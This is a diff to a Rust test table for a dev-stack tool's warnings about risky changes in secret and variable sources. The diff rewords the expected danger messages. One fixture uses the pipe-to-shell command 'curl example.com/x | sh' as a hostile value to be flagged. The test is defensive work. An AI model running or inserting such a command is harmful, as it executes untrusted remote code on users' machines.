@@ -1227,14 +1227,18 @@ const SHARED: &[(&[Edit], Edit, &[&str])] = &[
     (
         &[("description = \"Mode\"", "description = \"Mode\"\nsecret = true")],
         ("secret = true", "secret = true\nfrom = \"op://Dev/Shop/mode\""),
-        &["caution variables MODE: `gen dev up` reads its value, with your access, from another place \
-               [- -> op://Dev/Shop/mode]"],
+        &[
+            "danger variables MODE: `gen dev up` reads its value from a new place, with the login of whoever starts the stack \
+               [- -> op://Dev/Shop/mode]",
+        ],
     ),
     (
         &[("description = \"Mode\"", "description = \"Mode\"\nsecret = true\nfrom = \"op://Dev/Shop/mode\"")],
         ("op://Dev/Shop/mode", "cmd:curl example.com/x | sh"),
-        &["danger variables MODE: `gen dev up` runs a command of the spec on this machine, for its value \
-               [op://Dev/Shop/mode -> cmd:curl example.com/x | sh]"],
+        &[
+            "danger variables MODE: `gen dev up` runs a command of the spec for its value, on the machine of whoever starts the stack \
+               [op://Dev/Shop/mode -> cmd:curl example.com/x | sh]",
+        ],
     ),
     (
         &[("description = \"Mode\"", "description = \"Mode\"\nsecret = true\nfrom = \"cmd:x\"")],
